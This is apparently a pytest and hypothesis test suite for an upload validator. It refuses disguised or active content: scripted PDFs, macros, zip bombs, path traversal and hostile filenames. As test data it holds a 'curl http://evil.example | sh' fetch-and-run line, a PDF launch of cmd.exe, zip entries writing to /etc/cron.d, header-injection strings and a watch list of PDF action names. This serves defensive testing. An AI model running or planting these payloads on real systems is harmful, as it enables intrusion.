"""Uploads are typed by content, size-limited, and refused with a message a provider can act
on; the filename is only ever display metadata."""

from __future__ import annotations

import io
import tempfile
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accreditation.errors import ValidationFailed
from accreditation.evidence import office_checks, pdf_checks
from accreditation.evidence.content import (
    ALLOWED_TYPES_MESSAGE,
    EMPTY_MESSAGE,
    LEGACY_OFFICE_MESSAGE,
    UploadRejected,
    inspect_upload,
)
from accreditation.evidence.filenames import content_disposition, sanitise_filename

from . import samples

MiB = 1024 * 1024

ACCEPTED = {
    "pdf": (samples.pdf(), "application/pdf"),
    "png": (samples.png(), "image/png"),
    "jpeg": (samples.jpeg(), "image/jpeg"),
    "docx": (samples.docx(), "application/vnd.openxmlformats-officedocument."
                             "wordprocessingml.document"),
    "xlsx": (samples.xlsx(), "application/vnd.openxmlformats-officedocument."
                             "spreadsheetml.sheet"),
    "heic": (samples.image("HEIF"), "image/heic"),
}


def check(data: bytes, filename: str = "upload.pdf", max_bytes: int = 20 * MiB):
    return inspect_upload(io.BytesIO(data), filename=filename, max_bytes=max_bytes)


@pytest.mark.parametrize("kind", sorted(ACCEPTED))
def test_accepted_kinds_by_content_whatever_the_name(kind):
    data, content_type = ACCEPTED[kind]
    with check(data, filename="whatever.txt") as checked:
        assert checked.kind == kind
        assert checked.content_type == content_type
        assert checked.size == len(data)
        assert checked.crc32 == zlib.crc32(data)
        assert checked.stream.read() == data
        assert checked.is_image == (kind in {"png", "jpeg", "heic"})


REFUSED = {
    "html renamed .pdf": (b"<!DOCTYPE html><html><script>alert(1)</script></html>",
                          ALLOWED_TYPES_MESSAGE),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            ALLOWED_TYPES_MESSAGE),
    "xml": (b'<?xml version="1.0"?><note>hi</note>', ALLOWED_TYPES_MESSAGE),
    "shell script": (b"#!/bin/sh\ncurl http://evil.example | sh\n", ALLOWED_TYPES_MESSAGE),
    "elf": (b"\x7fELF\x02\x01\x01" + bytes(57), ALLOWED_TYPES_MESSAGE),
    "windows exe": (b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00", ALLOWED_TYPES_MESSAGE),
    "mach-o": (b"\xcf\xfa\xed\xfe" + bytes(28), ALLOWED_TYPES_MESSAGE),
    "plain text": (b"just some notes", ALLOWED_TYPES_MESSAGE),
    "gif": (samples.image("GIF"), ALLOWED_TYPES_MESSAGE),
    "plain zip": (samples.ooxml({"notes.txt": "hello"}), ALLOWED_TYPES_MESSAGE),
    "pptx-like zip": (samples.ooxml({
        "[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}),
        ALLOWED_TYPES_MESSAGE),
    "docx without its main content type": (samples.ooxml({
        **samples.docx_parts(), "[Content_Types].xml": "<Types/>"}), ALLOWED_TYPES_MESSAGE),
    "legacy .doc (OLE)": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
                          LEGACY_OFFICE_MESSAGE),
    "docm with vbaProject.bin": (samples.docm(), office_checks.ACTIVE_CONTENT_MESSAGE),
    "docx with a macro part only": (samples.docx(**{"word/vbaProject.bin": b"x"}),
                                    office_checks.ACTIVE_CONTENT_MESSAGE),
    "docx with an embedded OLE object": (
        samples.docx(**{"word/embeddings/oleObject1.bin": b"x"}),
        office_checks.ACTIVE_CONTENT_MESSAGE),
    "docx with an outside template": (samples.template_injection_docx(),
                                      office_checks.ACTIVE_CONTENT_MESSAGE),
    "docx with a ../ entry": (samples.docx(**{"../../evil.sh": "x"}),
                              office_checks.UNREADABLE_MESSAGE),
    "docx with an absolute entry": (samples.docx(**{"/etc/cron.d/x": "x"}),
                                    office_checks.UNREADABLE_MESSAGE),
    "truncated docx": (samples.docx()[:200], office_checks.UNREADABLE_MESSAGE),
    "pdf with javascript": (samples.pdf(
        b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
        pdf_checks.SCRIPT_MESSAGE),
    "pdf with a disguised javascript name": (samples.pdf(
        b"4 0 obj\n<< /S /Java#53cript /J#53 (app.alert(1)) >>\nendobj\n"),
        pdf_checks.SCRIPT_MESSAGE),
    "pdf with /JS alone": (samples.pdf(b"4 0 obj\n<< /JS 5 0 R >>\nendobj\n"),
                           pdf_checks.SCRIPT_MESSAGE),
    "pdf with javascript in an object stream": (
        samples.pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        pdf_checks.SCRIPT_MESSAGE),
    "pdf with a launch action": (samples.pdf(
        b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), pdf_checks.ACTION_MESSAGE),
    "pdf with an attached file": (samples.pdf(
        b"4 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj\n"),
        pdf_checks.ATTACHMENT_MESSAGE),
    "encrypted pdf": (samples.pdf(trailer_extra=b"/Encrypt 9 0 R "),
                      pdf_checks.ENCRYPTED_MESSAGE),
    "pdf with javascript in an uncompressed object stream": (samples.pdf(
        samples.pdf_stream_object(4, b"/Type /ObjStm /N 1 /First 4", b"5 0 << /JS 6 0 R >>")),
        pdf_checks.SCRIPT_MESSAGE),
    "pdf with javascript in a hex-encoded object stream": (
        samples.pdf_with_compressed_objects(b"<< /S /JavaScript /JS (1) >>", flate_layers=0,
                                            hex_encoded=True, catalog=b"/OpenAction 4 0 R "),
        pdf_checks.SCRIPT_MESSAGE),
    "empty": (b"", EMPTY_MESSAGE),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_refused_with_a_message_the_provider_can_act_on(name):
    data, message = REFUSED[name]
    with pytest.raises(UploadRejected) as refused:
        check(data, filename="evidence.pdf")
    assert refused.value.message == message
    assert isinstance(refused.value, ValidationFailed)  # the web layer shows it


def test_pdf_objects_in_clean_object_streams_are_fine():
    with check(samples.pdf_with_object_stream(b"<< /Type /Annot /Subtype /Link >>")) as checked:
        assert checked.kind == "pdf"


def test_pdf_binary_streams_may_contain_short_names_by_chance():
    # "/JS" inside compressed image data is noise, not a script.
    image = samples.pdf_stream_object(4, b"/Type /XObject /Subtype /Image", b"\x00/JS (\xff")
    with check(samples.pdf(image)) as checked:
        assert checked.kind == "pdf"


def test_too_many_pdf_object_streams_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_checks, "MAX_OBJECT_STREAMS", 2)
    stream = samples.pdf_stream_object(4, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                                       b"x")
    with pytest.raises(UploadRejected) as refused:
        check(samples.pdf(stream * 3))
    assert refused.value.message == pdf_checks.UNREADABLE_MESSAGE


def test_oversize_upload_is_refused_without_reading_it_all():
    class Endless(io.RawIOBase):
        read_so_far = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer) -> int:
            buffer[:] = b"%" * len(buffer)
            self.read_so_far += len(buffer)
            return len(buffer)

    endless = Endless()
    with pytest.raises(UploadRejected, match="^The file must be smaller than 1 MB$"):
        inspect_upload(endless, filename="big.pdf", max_bytes=MiB)
    assert endless.read_so_far == MiB + 1


def test_a_file_of_exactly_the_limit_is_accepted():
    data = samples.pdf()
    data += b"%" * (MiB - len(data))
    with check(data, max_bytes=MiB) as checked:
        assert checked.size == MiB


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory):
    path = tmp_path_factory.mktemp("bomb") / "bomb.docx"
    samples.write_zip_bomb(path, megabytes=200)
    return path


def test_zip_bomb_is_refused_from_its_directory(zip_bomb):
    assert zip_bomb.stat().st_size < MiB
    with zipfile.ZipFile(zip_bomb) as archive:
        assert archive.getinfo("word/media/image1.png").file_size == 200 * MiB
    with zip_bomb.open("rb") as stream, pytest.raises(UploadRejected) as refused:
        inspect_upload(stream, filename="bomb.docx")
    assert refused.value.message == office_checks.TOO_LARGE_MESSAGE


def test_too_many_zip_entries_is_refused(monkeypatch):
    monkeypatch.setattr(office_checks, "MAX_ENTRIES", 5)
    parts = {f"word/media/{n}.xml": "x" for n in range(6)}
    with pytest.raises(UploadRejected, match="expands to too much data"):
        check(samples.docx(**parts))


def test_filename_is_display_metadata_matching_the_content():
    with check(samples.png(), filename="C:\\Users\\me\\Desktop\\..\\lease\u202egnp.exe") as c:
        assert c.display_filename == "leasegnp.png"
    with check(samples.pdf(), filename="../../etc/passwd") as c:
        assert c.display_filename == "passwd.pdf"
    with check(samples.pdf(), filename=None) as c:
        assert c.display_filename == "evidence.pdf"


@pytest.mark.parametrize(("given_name", "extension", "expected"), [
    ("insurance.pdf", "pdf", "insurance.pdf"),
    ("/home/me/insurance.PDF", "pdf", "insurance.PDF"),
    ("..\\..\\boot.ini", None, "boot.ini"),
    ("report.pdf", "png", "report.png"),
    ("IMG_0001.HEIC", "jpg", "IMG_0001.jpg"),
    ("photo.jpeg", "jpg", "photo.jpeg"),
    ("Smith v2.final", "pdf", "Smith v2.final.pdf"),
    ("a\x00b\r\nc\td.pdf", "pdf", "abcd.pdf"),
    ('quote"semi;colon<>|?*.pdf', "pdf", "quote_semi_colon_____.pdf"),
    ("   ...hidden.pdf  ", "pdf", "hidden.pdf"),
    ("", "pdf", "evidence.pdf"),
    ("....", None, "evidence"),
    ("a" * 300 + ".docx", "docx", "a" * 115 + ".docx"),
])
def test_sanitise_filename(given_name, extension, expected):
    assert sanitise_filename(given_name, extension=extension) == expected


def test_content_disposition_is_an_attachment_with_a_safe_ascii_fallback():
    assert content_disposition("lease.pdf") == 'attachment; filename="lease.pdf"'
    header = content_disposition('Zoë "x"\r\nSet-Cookie: a=b.pdf')
    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="Zoe _x_Set-Cookie_ a=b.pdf"; filename*=')


MAGIC = [b"%PDF-", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04",
         b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]
EXPECTED_PREFIX = {"pdf": b"%PDF-", "jpeg": b"\xff\xd8\xff", "png": b"\x89PNG\r\n\x1a\n",
                   "docx": b"PK\x03\x04", "xlsx": b"PK\x03\x04", "heic": b"\x00\x00\x00"}


@given(st.one_of(
    st.binary(max_size=4096),
    st.tuples(st.sampled_from(MAGIC), st.binary(max_size=4096)).map(b"".join),
))
def test_random_bytes_are_refused_or_typed_by_their_magic(data):
    try:
        checked = check(data, filename="x", max_bytes=4096)
    except UploadRejected:
        return
    with checked:
        assert data.startswith(EXPECTED_PREFIX[checked.kind])
        if checked.kind == "heic":
            assert data[4:8] == b"ftyp"
        assert checked.size == len(data)


WATCHED_NAMES = {b"JavaScript": pdf_checks.SCRIPT_MESSAGE,
                 b"JS": pdf_checks.SCRIPT_MESSAGE,
                 b"Launch": pdf_checks.ACTION_MESSAGE,
                 b"SubmitForm": pdf_checks.ACTION_MESSAGE,
                 b"ImportData": pdf_checks.ACTION_MESSAGE,
                 b"GoToR": pdf_checks.ACTION_MESSAGE,
                 b"GoToE": pdf_checks.ACTION_MESSAGE,
                 b"EmbeddedFile": pdf_checks.ATTACHMENT_MESSAGE,
                 b"EmbeddedFiles": pdf_checks.ATTACHMENT_MESSAGE,
                 b"RichMedia": pdf_checks.ATTACHMENT_MESSAGE,
                 b"Encrypt": pdf_checks.ENCRYPTED_MESSAGE}


@st.composite
def disguised(draw, names=WATCHED_NAMES) -> tuple[bytes, bytes]:
    """A watched name with any of its characters written as #xx (either case), and the name
    it is."""
    name = draw(st.sampled_from(sorted(names)))
    written = b""
    for character in name:
        if draw(st.booleans()):
            escape = b"#%02x" % character
            written += escape.upper() if draw(st.booleans()) else escape
        else:
            written += bytes([character])
    return name, written


DELIMITERS = [b" ", b"\n", b"\r\n", b"/", b"(", b")", b"<<", b">>", b"[", b"]", b"%"]


# Noise with no names in it (no "/"), and no stream bodies (no "s").
NOISE = st.binary(max_size=300).map(lambda noise: noise.replace(b"/", b"").replace(b"s", b""))


@given(disguised(), st.sampled_from(DELIMITERS), st.sampled_from(DELIMITERS), NOISE)
def test_a_watched_name_is_found_however_it_is_written(name_and_written, before, after,
                                                       noise):
    """Written plainly or with #xx escapes (/J#61vaScript), after any noise and before any
    delimiter, outside stream bodies: refused, with the message for what it is."""
    name, written = name_and_written
    document = samples.pdf(b"% " + noise + b"\n4 0 obj\n<<" + before
                           + b"/" + written + after + b"5 0 R >>\nendobj\n")
    with pytest.raises(UploadRejected) as refused:
        check(document)
    assert refused.value.message == WATCHED_NAMES[name]


@given(disguised())
def test_a_watched_name_inside_longer_names_is_not_that_name(name_and_written):
    _name, written = name_and_written
    for longer in (b"X" + written, written + b"X", written + b"#58"):
        with check(samples.pdf(b"4 0 obj\n<< /" + longer + b" 1 >>\nendobj\n")) as checked:
            assert checked.kind == "pdf"


# The names the check acts on; "ObjStm" marks object streams it opens.
SCANNED_NAMES = {*WATCHED_NAMES, b"ObjStm"}
# Names only a parser can judge (where they are, what they hold), looked for in a file the
# parser cannot read.
READER_NAMES = {b"OpenAction", b"AA", b"URI", b"XFA", b"EF", b"FileAttachment", b"Thread",
                b"Rendition", b"RichMediaExecute", b"Movie", b"Sound", b"Screen", b"3D"}
PDF_DELIMITERS = b"\x00\t\n\x0c\r ()<>[]{}/%"


def names_by_hand(data: bytes, names: set[bytes]) -> list[tuple[int, bytes]]:
    """The definition the scan must agree with, written the slow, obvious way: a name is a
    '/' and every byte up to the next delimiter, with each '#' and two hex digits read as
    the byte they name."""
    found = []
    for start in range(len(data)):
        if data[start] != ord("/"):
            continue
        end = start + 1
        while end < len(data) and data[end] not in PDF_DELIMITERS:
            end += 1
        written, name, at = data[start + 1:end], b"", 0
        while at < len(written):
            pair = written[at + 1:at + 3]
            if (written[at] == ord("#") and len(pair) == 2
                    and all(chr(byte) in "0123456789abcdefABCDEF" for byte in pair)):
                name, at = name + bytes([int(pair, 16)]), at + 3
            else:
                name, at = name + written[at:at + 1], at + 1
        if name in names:
            found.append((start, name))
    return found


PIECES = st.one_of(
    disguised().map(lambda name_and_written: b"/" + name_and_written[1]),
    disguised(READER_NAMES).map(lambda name_and_written: b"/" + name_and_written[1]),
    st.sampled_from(sorted(SCANNED_NAMES | READER_NAMES)).map(lambda name: b"/" + name),
    st.sampled_from([bytes([byte]) for byte in PDF_DELIMITERS]),
    st.sampled_from([b"#", b"#4", b"#4A", b"#zz", b"#23", b"X", b"s", b"Java", b"Script"]),
    st.binary(max_size=40),
)


@given(st.lists(PIECES, max_size=40).map(b"".join))
def test_the_scan_finds_exactly_the_names_the_pdf_definition_gives(data):
    """Plain or disguised, next to each other or inside longer names, amid binary noise: the
    one-pass scan reports a watched name where, and only where, the file has one; so does
    the scan for names only a parser can judge."""
    scanned = [(at, name) for at, name in pdf_checks._names(data) if name in SCANNED_NAMES]
    assert scanned == names_by_hand(data, SCANNED_NAMES)
    scanned = [(at, name) for at, name in pdf_checks._names(data, pdf_checks._READER_NAMES)
               if name in READER_NAMES]
    assert scanned == names_by_hand(data, READER_NAMES)
    assert READER_NAMES == pdf_checks.READER_NAMES


def on_disk(data: bytes):
    """An upload as the web framework keeps a large one: a temporary file at its start."""
    stream = tempfile.TemporaryFile()  # noqa: SIM115 (closed with the CheckedFile)
    stream.write(data)
    stream.seek(0)
    return stream


LARGE = 3 * MiB


def test_a_large_pdf_on_disk_is_checked_where_it_is_with_its_checksum():
    data = samples.pdf(b"%" + bytes(range(256)) * (LARGE // 256) + b"\n")
    stream = on_disk(data)
    with inspect_upload(stream, filename="policy.pdf", max_bytes=4 * MiB) as checked:
        assert checked.stream is stream  # not copied
        assert checked.crc32 == zlib.crc32(data)
        assert checked.size == len(data) and checked.stream.tell() == 0
        assert checked.stream.read() == data
    assert stream.closed


@pytest.mark.parametrize(("hidden", "message"), [
    (b"/S /J#61vaScript", pdf_checks.SCRIPT_MESSAGE),
    (b"/Encrypt 9 0 R", pdf_checks.ENCRYPTED_MESSAGE),
])
def test_a_large_pdf_on_disk_with_active_content_is_refused(hidden, message):
    for where in (0, LARGE // 2, LARGE):  # at the start, in the middle, at the end
        padding = b"%" + b"0" * 100 + b"\n"
        data = samples.pdf(padding * (where // 102) + b"4 0 obj\n<< " + hidden
                           + b" >>\nendobj\n" + padding * ((LARGE - where) // 102))
        stream = on_disk(data)
        with pytest.raises(UploadRejected) as refused:
            inspect_upload(stream, filename="policy.pdf", max_bytes=4 * MiB)
        assert refused.value.message == message
        assert stream.closed
